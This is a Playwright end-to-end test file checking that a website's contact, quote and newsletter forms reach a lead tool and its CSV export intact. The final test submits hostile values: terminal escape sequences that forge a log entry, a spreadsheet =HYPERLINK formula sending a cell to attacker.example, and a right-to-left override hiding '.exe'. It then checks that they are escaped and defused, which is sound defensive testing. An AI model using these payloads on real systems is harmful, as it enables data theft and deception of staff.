/**
 * A visitor sends each form through the real API (no mocked answers), and the company finds
 * exactly what was typed with its lead tool, run as it would run it.
 */
import { execFileSync } from "node:child_process";
import { randomUUID } from "node:crypto";
import { dirname, resolve } from "node:path";
import type { Page, TestInfo } from "@playwright/test";
import { test, expect } from "./fixtures";

type StoredLead = {
  id: string;
  kind: string;
  createdAt: string;
  data: Record<string, unknown>;
  notifiedAt: string | null;
};

/** The contact and quote forms take a visitor longer than this; faster is treated as a bot. */
const HUMAN_FILL_MS = 3500;
/** The contact form shows 'Sending...' at least this long. */
const SENDING_MS = 1500;

/** The lead tool, run from the project root against the database of this run's e2e server. */
function leadTool(testInfo: TestInfo, args: string[]): string {
  const root = dirname(testInfo.config.configFile!);
  const port = new URL(testInfo.project.use.baseURL!).port;
  return execFileSync(process.execPath, ["scripts/leads.ts", ...args], {
    cwd: root,
    env: { ...process.env, DATA_DIR: resolve(root, `test-results/data-${port}`) },
    encoding: "utf8",
  });
}

function listLeads(testInfo: TestInfo, kind: string): StoredLead[] {
  return JSON.parse(leadTool(testInfo, ["list", "--json", "--kind", kind])) as StoredLead[];
}

/** The stored leads of a kind sent with this e-mail address. */
function leadsFrom(testInfo: TestInfo, kind: string, email: string): StoredLead[] {
  return listLeads(testInfo, kind).filter((lead) => lead.data.email === email);
}

/** A CSV document (RFC 4180) as rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += char;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** Values unique to this run, so the journey finds its own lead among earlier ones. */
function uniqueVisitor(testInfo: TestInfo) {
  const tag = `${testInfo.project.name}-${randomUUID().slice(0, 8)}`;
  return {
    name: `Asha Verma ${tag}`,
    email: `asha.${tag}@clinic.example`,
    phone: "+91 98765 43210",
    subject: "Project Discussion",
    // A comma, quotes and a line break: the CSV export must keep them intact.
    message: `Hello, we need a "booking" system for our three clinics.\nReference ${tag}.`,
  };
}
type Visitor = ReturnType<typeof uniqueVisitor>;

async function fillContact(page: Page, visitor: Visitor) {
  await page.getByLabel("Full Name").fill(visitor.name);
  await page.getByLabel("Email Address").fill(visitor.email);
  await page.getByLabel("Phone Number").fill(visitor.phone);
  await page.getByLabel("Subject").selectOption({ label: visitor.subject });
  await page.getByLabel("Message", { exact: true }).fill(visitor.message);
}

async function expectContactKept(page: Page, visitor: Visitor) {
  await expect(page.getByLabel("Full Name")).toHaveValue(visitor.name);
  await expect(page.getByLabel("Email Address")).toHaveValue(visitor.email);
  await expect(page.getByLabel("Phone Number")).toHaveValue(visitor.phone);
  await expect(page.getByLabel("Subject")).toHaveValue(visitor.subject);
  await expect(page.getByLabel("Message", { exact: true })).toHaveValue(visitor.message);
}

const contactFields = (visitor: Visitor) => ({
  name: visitor.name,
  email: visitor.email,
  phone: visitor.phone,
  subject: visitor.subject,
  message: visitor.message,
});

/** Drops the console errors of requests the journey failed on purpose. */
function forgiveFailedLoads(problems: string[]) {
  const rest = problems.filter((text) => !/Failed to load resource|ERR_FAILED/.test(text));
  problems.splice(0, problems.length, ...rest);
}

test.beforeEach(async ({ page }) => {
  // The forms time the visitor with performance.now(); the fake clock stands in for typing time.
  await page.clock.install();
});

test("a contact message reaches the lead tool, in its list and its CSV export", async ({
  page,
}, testInfo) => {
  const visitor = uniqueVisitor(testInfo);
  await page.goto("/contact");
  await fillContact(page, visitor);
  await page.clock.runFor(HUMAN_FILL_MS);

  const answer = page.waitForResponse("**/api/contact");
  await page.getByRole("button", { name: "Send Message" }).click();
  expect((await answer).status()).toBe(201);
  await page.clock.runFor(SENDING_MS);
  await expect(page.getByRole("status").filter({ hasText: "Message Sent!" })).toBeVisible();

  const stored = leadsFrom(testInfo, "contact", visitor.email);
  expect(stored).toHaveLength(1);
  expect(stored[0]!.kind).toBe("contact");
  expect(stored[0]!.data).toEqual(contactFields(visitor));

  const [header, ...rows] = parseCsv(leadTool(testInfo, ["export", "--csv"]));
  const column = (name: string) => header!.indexOf(name);
  const row = rows.find((cells) => cells[column("id")] === stored[0]!.id);
  expect(row, "the contact entry in the CSV export").toBeDefined();
  expect(row![column("kind")]).toBe("contact");
  for (const field of ["name", "email", "subject", "message"] as const)
    expect(row![column(field)], field).toBe(visitor[field]);
  // A leading + is defused with an apostrophe, so a spreadsheet never reads a formula.
  expect(row![column("phone")]!.replace(/^'/, "")).toBe(visitor.phone);
});

test("a message typed while the app is still loading is not taken for a bot", async ({
  page,
}, testInfo) => {
  const visitor = uniqueVisitor(testInfo);
  // A slow connection: the page's HTML is on screen at once, its scripts arrive 4 s later.
  const scriptsArriveAt = Date.now() + 4000;
  await page.route("**/assets/**/*.js", async (route) => {
    await new Promise((done) => setTimeout(done, Math.max(0, scriptsArriveAt - Date.now())));
    await route.continue();
  });
  await page.goto("/contact", { waitUntil: "commit" });
  await fillContact(page, visitor);

  // Sent the moment the app has taken over the form (React has attached it): 4 s after the
  // visitor could start typing, but only an instant after the app began to time the form.
  await page.waitForFunction(
    () => {
      const form = document.querySelector("main form");
      return form !== null && Object.keys(form).some((key) => key.startsWith("__reactProps"));
    },
    undefined,
    { timeout: 15_000 },
  );
  await expectContactKept(page, visitor);
  const answer = page.waitForResponse("**/api/contact");
  await page.getByRole("button", { name: "Send Message" }).click();
  expect((await answer).status()).toBe(201);
  await page.clock.runFor(SENDING_MS);
  await expect(page.getByRole("status").filter({ hasText: "Message Sent!" })).toBeVisible();

  const stored = leadsFrom(testInfo, "contact", visitor.email);
  expect(stored, "the message is stored, not dropped as a bot's").toHaveLength(1);
  expect(stored[0]!.data).toEqual(contactFields(visitor));
});

test("a quote request from the modal reaches the lead tool", async ({ page }, testInfo) => {
  const visitor = uniqueVisitor(testInfo);
  await page.goto("/contact");
  await page.getByRole("link", { name: "Get a Quote" }).click();
  const dialog = page.getByRole("dialog", { name: "Get a Quote" });
  await expect(dialog).toBeVisible();

  const description = `A mobile app for booking yoga classes, with payments. ${visitor.message}`;
  await dialog.getByLabel("Full Name").fill(visitor.name);
  await dialog.getByLabel("Email Address").fill(visitor.email);
  await dialog.getByLabel("Project Type").selectOption({ label: "Mobile App" });
  await dialog.getByLabel("Project Description").fill(description);
  await dialog.getByLabel("Budget Range").selectOption({ label: "$10,000-$25,000" });
  await page.clock.runFor(HUMAN_FILL_MS);

  const answer = page.waitForResponse("**/api/quote");
  await dialog.getByRole("button", { name: "Submit Request" }).click();
  expect((await answer).status()).toBe(201);
  await expect(dialog).toBeHidden();
  await expect(
    page.getByRole("status").filter({ hasText: "quote request has been received" }),
  ).toBeVisible();
  await expect(page).toHaveURL(/\/contact$/);

  const stored = leadsFrom(testInfo, "quote", visitor.email);
  expect(stored).toHaveLength(1);
  expect(stored[0]!.data).toEqual({
    name: visitor.name,
    email: visitor.email,
    projectType: "mobile",
    description,
    budget: "medium",
  });
});

test("subscribing the same address twice stores it once", async ({ page }, testInfo) => {
  const { email } = uniqueVisitor(testInfo);
  await page.goto("/about");
  const footer = page.getByRole("contentinfo");
  const box = footer.getByRole("textbox", { name: "Your email" });
  const subscribe = footer.getByRole("button", { name: "Subscribe" });
  // The visitor scrolls down to the box; the app takes it over (React attaches to the form).
  await box.scrollIntoViewIfNeeded();
  await expect
    .poll(() =>
      box.evaluate((input) =>
        Object.keys((input as HTMLInputElement).form!).some((key) =>
          key.startsWith("__reactProps"),
        ),
      ),
    )
    .toBe(true);
  await page.clock.runFor(1500);

  for (let time = 1; time <= 2; time++) {
    await box.fill(email);
    const answer = page.waitForResponse("**/api/newsletter");
    await subscribe.click();
    expect((await answer).status(), `subscription ${time}`).toBe(201);
    await expect(footer.getByRole("status")).toHaveText("Thanks for subscribing!");
    await expect(box).toHaveValue("");
    await expect(footer.getByRole("alert")).toHaveCount(0);
  }

  const stored = leadsFrom(testInfo, "newsletter", email);
  expect(stored).toHaveLength(1);
  expect(stored[0]!.data).toEqual({ email });
});

test("offline, the message waits with every field kept, and is stored once back online", async ({
  page,
  context,
}, testInfo) => {
  const visitor = uniqueVisitor(testInfo);
  await page.goto("/contact");
  await fillContact(page, visitor);
  await page.clock.runFor(HUMAN_FILL_MS);
  await context.setOffline(true);

  await page.getByRole("button", { name: "Send Message" }).click();
  await page.clock.runFor(SENDING_MS);
  const alert = page.getByRole("alert").filter({ hasText: "not sent" });
  await expect(alert).toBeVisible();
  await expect(alert).toContainText("offline");
  await expectContactKept(page, visitor);
  const retry = alert.getByRole("button", { name: "Try again" });
  await expect(retry).toBeVisible();
  const mailto = new URL(
    (await alert.getByRole("link", { name: "Email us instead" }).getAttribute("href"))!,
  );
  expect(mailto.protocol).toBe("mailto:");
  expect(mailto.searchParams.get("subject")).toBe(`${visitor.subject} from ${visitor.name}`);
  for (const value of [visitor.email, visitor.phone, visitor.message])
    expect(mailto.searchParams.get("body")).toContain(value);

  // Trying again while still offline fails the same way and loses nothing.
  await retry.click();
  await page.clock.runFor(SENDING_MS);
  await expect(alert).toBeVisible();
  await expectContactKept(page, visitor);
  expect(leadsFrom(testInfo, "contact", visitor.email)).toEqual([]);

  // Back online, the saved message goes out by itself.
  await context.setOffline(false);
  await expect(page.getByRole("status").filter({ hasText: "Message Sent!" })).toBeVisible();
  const stored = leadsFrom(testInfo, "contact", visitor.email);
  expect(stored).toHaveLength(1);
  expect(stored[0]!.data).toEqual(contactFields(visitor));
});

test("when the connection drops before the answer, Try again stores the message once", async ({
  page,
  consoleProblems,
}, testInfo) => {
  const visitor = uniqueVisitor(testInfo);
  let cut = true;
  // The request reaches the server, which stores it; the answer is lost on the way back.
  await page.route("**/api/contact", async (route) => {
    if (!cut) return route.continue();
    await route.fetch();
    return route.abort("connectionreset");
  });
  await page.goto("/contact");
  await fillContact(page, visitor);
  await page.clock.runFor(HUMAN_FILL_MS);

  await page.getByRole("button", { name: "Send Message" }).click();
  await page.clock.runFor(SENDING_MS);
  const alert = page.getByRole("alert").filter({ hasText: "not sent" });
  await expect(alert).toBeVisible();
  await expect(alert).toContainText("could not reach our server");
  await expectContactKept(page, visitor);
  await expect(alert.getByRole("link", { name: "Email us instead" })).toHaveAttribute(
    "href",
    /^mailto:/,
  );
  const first = leadsFrom(testInfo, "contact", visitor.email);
  expect(first).toHaveLength(1);

  cut = false;
  const answer = page.waitForResponse("**/api/contact");
  await alert.getByRole("button", { name: "Try again" }).click();
  expect((await answer).status()).toBe(201);
  await page.clock.runFor(SENDING_MS);
  await expect(page.getByRole("status").filter({ hasText: "Message Sent!" })).toBeVisible();

  // The retry carried the same submission id: the lead tool still shows one message.
  const stored = leadsFrom(testInfo, "contact", visitor.email);
  expect(stored).toHaveLength(1);
  expect(stored[0]!.id).toBe(first[0]!.id);
  expect(stored[0]!.data).toEqual(contactFields(visitor));
  forgiveFailedLoads(consoleProblems);
});

test("a hostile name reaches the lead tool escaped in its list and defused in its CSV", async ({
  request,
}, testInfo) => {
  const tag = `${testInfo.project.name}-${randomUUID().slice(0, 8)}`;
  const email = `mallory.${tag}@attacker.example`;
  // Clear the screen, retitle the window, then fake a whole entry from the boss.
  const name = `Mallory\u001b[2J\u001b]0;pwned\u0007\r\n\r\n2026-01-01T00:00:00.000Z  contact    Boss`;
  const message = `=HYPERLINK("https://attacker.example/?"&A1,"Invoice") \u202egnp.exe ${tag}`;
  const origin = new URL(testInfo.project.use.baseURL!).origin;
  const answer = await request.post("/api/contact", {
    headers: { Origin: origin, "Sec-Fetch-Site": "same-origin" },
    data: {
      id: randomUUID(),
      elapsedMs: 8000,
      website: "",
      name,
      email,
      phone: "",
      subject: "General Inquiry",
      message,
    },
  });
  expect(answer.status(), await answer.text()).toBe(201);

  // JSON keeps exactly what was sent.
  const [stored] = leadsFrom(testInfo, "contact", email);
  expect(stored!.data.name).toBe(name);
  expect(stored!.data.message).toBe(message);

  // The readable list: one entry, every control character shown as an escape.
  const list = leadTool(testInfo, ["list", "--kind", "contact"]);
  // eslint-disable-next-line no-control-regex -- no control character may reach the terminal
  expect(list).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  const entry = list.split("\n\n").find((block) => block.includes(email))!;
  expect(entry.split("\n")[0]).toContain(
    "Mallory\\x1b[2J\\x1b]0;pwned\\x07\\r\\n\\r\\n2026-01-01T00:00:00.000Z  contact    Boss",
  );
  expect(entry).toContain("\\u202egnp.exe");

  // The CSV: no control characters, and the formula is text.
  const [header, ...rows] = parseCsv(leadTool(testInfo, ["export", "--csv"]));
  const row = rows.find((cells) => cells[header!.indexOf("email")] === email)!;
  expect(row[header!.indexOf("name")]).toBe(
    "Mallory[2J]0;pwned\n\n2026-01-01T00:00:00.000Z  contact    Boss",
  );
  expect(row[header!.indexOf("message")]).toBe(
    `'=HYPERLINK("https://attacker.example/?"&A1,"Invoice") gnp.exe ${tag}`,
  );
});
